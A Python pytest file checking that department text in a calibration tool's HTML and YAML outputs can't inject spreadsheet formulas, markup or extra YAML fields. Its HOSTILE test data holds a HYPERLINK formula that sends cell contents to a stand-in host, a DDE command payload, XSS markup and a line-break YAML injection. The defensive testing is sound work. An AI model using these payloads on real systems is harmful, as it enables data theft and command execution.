"""What a department's text can do to our outputs, and cannot: in calibration.html a cell that begins with
=, +, - or @ is shown as text (a leading apostrophe, and text to a spreadsheet), never a formula, and every cell is
escaped; in calibrated.yaml a department's text goes only into comments, and no line break in it (not even
U+2028) can end the comment and write a field."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bwclab.cli import app
from bwclab.records.pages import text_cell
from bwclab.sim.scenario import load_scenario
from tests.records.records import AUDIT_HEADER, BASE, CAD_HEADER, t, write_csv, write_yaml

HOSTILE = {
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "line-breaks": "ALARM\nname: owned\u2028seed: 666\u0085camera: {buffer_s: 0}\r\nsignal: {triggers: []}",
}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("hostile")
    types = list(HOSTILE.values())
    cad = [[f"C{k}", dept, "1" if k % 2 else "2", t(2, 8 + k, 0), t(2, 8 + k, 1), t(2, 8 + k, 10), t(2, 8 + k, 40),
            "U1"] for k, dept in enumerate(types)]
    audit = [[f"R{k}", "U1", t(2, 8 + k, 12), t(2, 8 + k, 40), "manual", f"C{k}"] for k in range(len(types))]
    write_csv(d / "cad.csv", CAD_HEADER, cad)
    write_csv(d / "audit.csv", AUDIT_HEADER, audit)
    write_yaml(d / "types.yaml", {dept: "service" for dept in types})
    write_yaml(d / "base.yaml", {**BASE, "signal": {"triggers": ["light_bar"]}})
    r = CliRunner().invoke(app, ["sim", "calibrate", "--cad", str(d / "cad.csv"), "--audit", str(d / "audit.csv"),
                                 "--types", str(d / "types.yaml"), "--scenario", str(d / "base.yaml"), "--out",
                                 str(d / "out")])
    assert r.exit_code == 0, r.output
    return d / "out"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_be_a_formula_is_shown_as_text(start: str) -> None:
    cell = text_cell(start + "1+1")
    assert cell.startswith("<td style='mso-number-format:\"\\@\"'>'") and cell.endswith("1+1</td>")


def test_a_plain_cell_is_escaped_and_left_as_it_is() -> None:
    assert text_cell("ALARM & <b>") == "<td>ALARM &amp; &lt;b&gt;</td>"


def test_the_calibration_page_shows_the_departments_text_escaped_and_never_as_a_formula(outputs: Path) -> None:
    page = (outputs / "calibration.html").read_text()
    assert "<script" not in page.lower() and "<img src=x" not in page and "onerror=alert(2)>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", page)
    for name in ("formula", "plus", "minus", "at"):
        shown = "'" + HOSTILE[name].replace("&", "&amp;").replace('"', "&quot;").replace("'", "&#x27;").replace(
            "<", "&lt;").replace(">", "&gt;")
        assert shown in cells, name
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_the_departments_text_cannot_write_a_field_of_the_calibrated_scenario(outputs: Path) -> None:
    text = (outputs / "calibrated.yaml").read_text()
    scenario = load_scenario(outputs / "calibrated.yaml")
    assert scenario.name == "tiny (calibrated)" and scenario.seed == 1
    assert scenario.camera.buffer_s == 30.0 and scenario.signal.triggers == []  # the fit's, not the text's
    for line in text.splitlines():
        assert all(" " <= c <= "~" for c in line), repr(line)  # ASCII, no break of any kind inside a line
    assert "owned" in text and re.search(r"^\s*#.*ALARM\\nname: owned\\u2028seed: 666", text, re.M)
